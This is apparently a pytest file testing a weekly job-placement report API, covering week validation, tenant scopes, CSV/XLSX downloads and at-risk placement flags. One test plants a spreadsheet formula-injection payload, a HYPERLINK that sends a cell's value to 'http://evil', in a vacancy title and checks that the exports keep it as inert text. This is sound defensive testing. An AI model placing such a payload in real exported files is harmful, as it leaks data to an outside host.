"""GET /api/v1/reports/weekly: bad weeks are 422 on `week`, scopes follow the key, downloads open, at-risk rows."""

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert

from app.clock import today
from app.models import FlagReview, PlacementRisk
from app.reports.schemas import IsoWeek
from app.reports.weekly_schema import WeeklyReport
from tests.factories import patch_fresh
from tests.reports import helpers as h

URL = "/api/v1/reports/weekly"


@pytest.fixture
def history(client, tenants, db):
    return h.build_history(client, tenants, db)


@pytest.mark.parametrize("week", ["2025-47", "2025-W1", "2025W47", "W47", "2025-W54", "2026-W00", "1999-W10", "x" * 20])
def test_a_bad_week_is_422_on_the_week_field(client, tenants, week):
    resp = client.get(URL, params={"week": week}, headers=tenants["province"].headers)
    assert resp.status_code == 422, resp.text
    item = resp.json()["detail"][0]
    assert item["field"] == "week" and item["message_zh"] and item["message_en"]


def test_a_future_or_unfinished_week_is_422(client, tenants):
    current = IsoWeek.of(today())
    for week in (current, current.shift(3)):
        resp = client.get(URL, params={"week": str(week)}, headers=tenants["province"].headers)
        assert resp.status_code == 422
        assert "has not ended yet" in resp.json()["detail"][0]["message_en"]
        assert str(IsoWeek.last_complete(today())) in resp.json()["detail"][0]["message_en"]


def test_a_bad_format_is_422(client, tenants):
    resp = client.get(URL, params={"week": h.WEEK, "format": "pdf"}, headers=tenants["province"].headers)
    assert resp.status_code == 422 and resp.json()["detail"][0]["field"] == "format"


def test_default_week_is_the_last_finished_one(client, tenants):
    resp = client.get(URL, headers=tenants["province"].headers)
    assert resp.status_code == 200
    assert resp.json()["week"] == str(IsoWeek.last_complete(today()))


def test_each_key_sees_its_own_scope(client, tenants, history):
    seen = {}
    for role in ("province", "county", "other_county", "employer", "other_employer"):
        resp = client.get(URL, params={"week": h.WEEK}, headers=tenants[role].headers)
        assert resp.status_code == 200, resp.text
        body = resp.json()
        assert {
            "week",
            "scope",
            "totals",
            "by_county",
            "by_employer",
            "by_pairing",
            "by_channel",
            "retention",
            "at_risk",
        } <= set(body)
        WeeklyReport.model_validate(body)  # the documented response model, with no field it does not name
        seen[role] = body["totals"]["new_placements"], body["totals"]["active_at_week_end"], body["scope"]["kind"]
    assert seen == {
        "province": (3, 5, "province"),
        "county": (2, 4, "county"),  # 450225's workers
        "other_county": (1, 1, "county"),  # 451122's one worker
        "employer": (3, 4, "employer"),  # the Dongguan factory
        "other_employer": (0, 1, "employer"),  # the workshop: the local job
    }
    assert client.get(URL, params={"week": h.WEEK}, headers=tenants["agency"].headers).status_code == 403
    # A school reads its graduates' jobs after their class: this history has no training, so none.
    school = client.get(URL, params={"week": h.WEEK}, headers=tenants["school"].headers)
    assert school.status_code == 200, school.text
    body = school.json()
    assert body["scope"] == {"kind": "school", "id": tenants["school"].org_id, "name": body["scope"]["name"]}
    assert (body["totals"]["new_placements"], body["totals"]["active_at_week_end"]) == (0, 0)
    WeeklyReport.model_validate(body)


def test_csv_and_xlsx_downloads(client, tenants, history):
    headers = tenants["province"].headers
    resp = client.get(URL, params={"week": h.WEEK, "format": "csv"}, headers=headers)
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    assert 'filename="weekly-2025-W10-province.csv"' in resp.headers["content-disposition"]
    lines = resp.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("week,scope,")
    assert "2025-W10,province,totals,,全省 / whole province,新增就业 / New placements,new_placements,3" in lines
    resp = client.get(URL, params={"week": h.WEEK, "format": "xlsx"}, headers=headers)
    assert resp.status_code == 200
    wb = load_workbook(io.BytesIO(resp.content))
    totals = {row[0]: row[1:4] for row in wb["汇总 totals"].iter_rows(min_row=2, values_only=True)}
    assert totals["新增就业 / New placements"] == (3, 1, 2) and totals["离岗 / Departures"] == (2, 1, 1)
    again = client.get(URL, params={"week": h.WEEK, "format": "xlsx"}, headers=headers)
    assert again.content == resp.content  # no save time inside


def test_at_risk_is_empty_with_a_note_before_the_model_scores(client, tenants, history):
    at_risk = client.get(URL, params={"week": h.WEEK}, headers=tenants["province"].headers).json()["at_risk"]
    assert at_risk["items"] == [] and "has not scored" in at_risk["note"]


def test_at_risk_lists_flagged_active_placements_and_answers_of_the_week(client, tenants, history, db):
    p = history.placements
    sunday_night = datetime(2025, 3, 9, 15, 59, tzinfo=UTC)  # 23:59 CST
    monday_run = datetime(2025, 3, 9, 22, 0, tzinfo=UTC)  # Monday 06:00 CST: the weekly run's own scoring
    rows = [
        (p["local"], 0.2, 0.71, 0.8, sunday_night),
        (p["last_sunday"], 0.1, 0.55, 0.6, monday_run),
        (p["sunday_start"], 0.05, 0.2, 0.3, sunday_night),  # scored, not flagged
        (p["other_county"], 0.3, 0.9, 0.95, monday_run + timedelta(days=7)),  # scored after the following week
        (p["same_week"], 0.5, 0.9, 0.9, sunday_night),  # ended in the week: not active
    ]
    with db.session() as session, session.begin():
        for pid, r30, r90, r180, at in rows:
            session.execute(
                insert(PlacementRisk),
                {
                    "placement_id": pid,
                    "risk_30": r30,
                    "risk_90": r90,
                    "risk_180": r180,
                    "reasons": ["工资低于期望 wage below expectation"],
                    "action": "call",
                    "model_version": "test-1",
                    "scored_at": at,
                },
            )
        org = tenants["county"].org_id
        for pid, decision, at in (
            (p["local"], "contacted", datetime(2025, 3, 5, 2, tzinfo=UTC)),
            (p["last_sunday"], "dismissed", datetime(2025, 3, 2, 15, tzinfo=UTC)),
        ):
            # The second is Sunday 23:00 CST of the week before: not answered "this week".
            session.execute(
                insert(FlagReview),
                {"placement_id": pid, "org_id": org, "decision": decision, "risk_90": 0.7, "created_at": at},
            )
        # The workshop (the local placement's employer) dismisses the flag later that week: its own answer only.
        workshop = tenants["other_employer"].org_id
        session.execute(
            insert(FlagReview),
            {"placement_id": p["local"], "org_id": workshop, "decision": "dismissed", "created_at": sunday_night},
        )
    own = client.get(URL, params={"week": h.WEEK}, headers=tenants["other_employer"].headers).json()["at_risk"]
    assert [(i["placement_id"], i["answered_this_week"]) for i in own["items"]] == [(p["local"], "dismissed")]
    assert own["answered_this_week"]["contacted"] == 0  # the county's answer stays with the offices
    at_risk = client.get(URL, params={"week": h.WEEK}, headers=tenants["province"].headers).json()["at_risk"]
    assert at_risk["note"] is None and (at_risk["scored"], at_risk["flagged"]) == (3, 2)
    items = at_risk["items"]
    assert [i["placement_id"] for i in items] == [p["local"], p["last_sunday"]]  # highest risk first
    assert items[0]["answered_this_week"] == "contacted" and items[1]["answered_this_week"] is None
    assert items[0]["reasons"] == ["工资低于期望 wage below expectation"] and items[0]["action"] == "call"
    assert at_risk["answered_this_week"]["contacted"] == 1 and at_risk["answered_this_week"]["dismissed"] == 0
    assert "name" not in json.dumps(items[0]).replace("_name", "")  # no worker names in the list
    other = client.get(URL, params={"week": h.WEEK}, headers=tenants["other_county"].headers).json()["at_risk"]
    assert other["items"] == []  # another county's flags stay behind its wall


FORMULA = '=HYPERLINK("http://evil/?"&C2,"点击")'


def test_a_formula_in_a_vacancy_title_stays_text_in_the_downloads(client, tenants, history, db):
    employer = tenants["employer"]
    resp = patch_fresh(
        client, f"/api/v1/vacancies/{history.vacancies['east']}", json={"title": FORMULA}, headers=employer.headers
    )
    assert resp.status_code == 200, resp.text
    with db.session() as session, session.begin():
        session.execute(
            insert(PlacementRisk),
            {
                "placement_id": history.placements["last_sunday"],
                "risk_30": 0.4,
                "risk_90": 0.8,
                "risk_180": 0.9,
                "reasons": [],
                "action": "call",
                "model_version": "test-1",
                "scored_at": datetime(2025, 3, 9, 15, 59, tzinfo=UTC),
            },
        )
    params = {"week": h.WEEK, "format": "xlsx"}
    wb = load_workbook(io.BytesIO(client.get(URL, params=params, headers=employer.headers).content))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
    titles = [c for c in cells if c.value == FORMULA]
    assert titles and all(c.data_type == "s" for c in titles)
    assert any(c.data_type == "n" and c.value == 0.8 for c in cells)  # numbers stay numbers
    text = client.get(URL, params={**params, "format": "csv"}, headers=employer.headers).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    values = [r[-1] for r in rows if r[-2] == "vacancy_title"]
    assert values == ["'" + FORMULA]
    assert [r[-1] for r in rows if r[-2] == "risk_90"] == ["0.8"]


def test_reasons_read_as_words_and_an_employer_does_not_see_a_workers_history_elsewhere(client, tenants, history, db):
    reasons = [
        {"code": "wage_gap", "zh": "工资低于期望", "en": "pay below what was expected"},
        {"code": "prior_quit_wage", "zh": "以前因工资离职", "en": "left an earlier job over pay"},
    ]
    with db.session() as session, session.begin():
        session.execute(
            insert(PlacementRisk),
            {
                "placement_id": history.placements["last_sunday"],
                "risk_30": 0.4,
                "risk_90": 0.8,
                "risk_180": 0.9,
                "reasons": reasons,
                "action": "call",
                "model_version": "test-1",
                "scored_at": datetime(2025, 3, 9, 15, 59, tzinfo=UTC),
            },
        )
    province = tenants["province"].headers
    (item,) = client.get(URL, params={"week": h.WEEK}, headers=province).json()["at_risk"]["items"]
    assert item["reasons"] == reasons
    words = "工资低于期望 / pay below what was expected; 以前因工资离职 / left an earlier job over pay"
    csv_text = client.get(URL, params={"week": h.WEEK, "format": "csv"}, headers=province).content.decode("utf-8-sig")
    assert [r[-1] for r in csv.reader(io.StringIO(csv_text)) if r[-2] == "reasons"] == [words]
    client.post("/reports/weekly/sign-in", data={"api_key": tenants["province"].key})
    html = client.get("/reports/weekly", params={"week": h.WEEK}).text
    assert words in html and "{&#39;code&#39;" not in html and "'code'" not in html
    employer = tenants["employer"].headers
    (item,) = client.get(URL, params={"week": h.WEEK}, headers=employer).json()["at_risk"]["items"]
    assert [r["code"] for r in item["reasons"]] == ["wage_gap"]


def test_downloads_and_page_show_codes_as_chinese_and_english_and_dates_as_dates(client, tenants, history, db):
    with db.session() as session, session.begin():
        session.execute(
            insert(PlacementRisk),
            {
                "placement_id": history.placements["local"],
                "risk_30": 0.4,
                "risk_90": 0.8,
                "risk_180": 0.9,
                "reasons": [],
                "action": "employer_talk",
                "model_version": "test-1",
                "scored_at": datetime(2025, 3, 9, 15, 59, tzinfo=UTC),
            },
        )
    headers = tenants["province"].headers
    report = client.get(URL, params={"week": h.WEEK}, headers=headers).json()
    (item,) = report["at_risk"]["items"]
    assert (item["action"], item["action_label"]) == ("employer_talk", "与企业沟通 / Talk to the employer")
    assert {c["channel"]: c["channel_label"] for c in report["by_channel"]}["local"] == "就地 / Local (home county)"
    assert report["definitions"]["week"]["label"] == "周次 / Week" and report["definitions"]["week"]["zh"]

    wb = load_workbook(io.BytesIO(client.get(URL, params={"week": h.WEEK, "format": "xlsx"}, headers=headers).content))
    reasons = dict(wb["离岗原因 end reasons"].iter_rows(min_row=2, values_only=True))
    assert reasons == {"被辞退 / Dismissed by the employer": 1, "想家辞职 / Quit, homesick": 1}
    risk = wb["风险 at risk"]
    start, action = risk.cell(row=2, column=6), risk.cell(row=2, column=12)
    assert start.is_date and start.value.date() == date(2025, 2, 10) and start.number_format == "yyyy-mm-dd"
    assert action.value == "与企业沟通 / Talk to the employer"
    totals = wb["汇总 totals"]
    assert totals.cell(row=2, column=5).is_date and totals.cell(row=2, column=5).value.date() == h.MON
    definitions = {row[0]: row[1:] for row in wb["口径 definitions"].iter_rows(min_row=2, values_only=True)}
    assert "合同期满 / Contract ended" in definitions["90天内离岗 / Early departure"][0]
    channels = [row[0] for row in wb["按渠道 by channel"].iter_rows(min_row=2, values_only=True)]
    assert channels == [
        "异地转移 / Cross-region transfer",
        "就地 / Local (home county)",
        "就近 / Nearby (home province)",
    ]
    every_text = [c.value for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row[:1]]
    assert not {"employer_talk", "dismissed", "quit_homesick", "cross_region", "new_placements"} & set(every_text)

    text = client.get(URL, params={"week": h.WEEK, "format": "csv"}, headers=headers).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["end_reasons", "dismissed", "被辞退 / Dismissed by the employer"] in [r[2:5] for r in rows]
    assert [r[-1] for r in rows if r[-2] == "action_label"] == ["与企业沟通 / Talk to the employer"]
    assert any(r[5] == "90天离岗风险 / Risk of leaving by day 90" and r[-2] == "risk_90" for r in rows)

    client.post("/reports/weekly/sign-in", data={"api_key": tenants["province"].key})
    html = client.get("/reports/weekly", params={"week": h.WEEK}).text
    for words in ("被辞退 / Dismissed by the employer", "与企业沟通 / Talk to the employer", "周次 / Week"):
        assert words in html
    assert ">employer_talk<" not in html and "quit_homesick" not in html and "contract_ended" not in html


def test_the_openapi_document_describes_the_weekly_report(client):
    spec = client.get("/openapi.json").json()
    ok = spec["paths"]["/api/v1/reports/weekly"]["get"]["responses"]["200"]["content"]
    assert ok["application/json"]["schema"] == {"$ref": "#/components/schemas/WeeklyReport"}
    report = spec["components"]["schemas"]["WeeklyReport"]
    assert {"totals", "by_pairing", "retention", "at_risk", "cases", "definitions"} <= set(report["properties"])
    assert report["additionalProperties"] is False
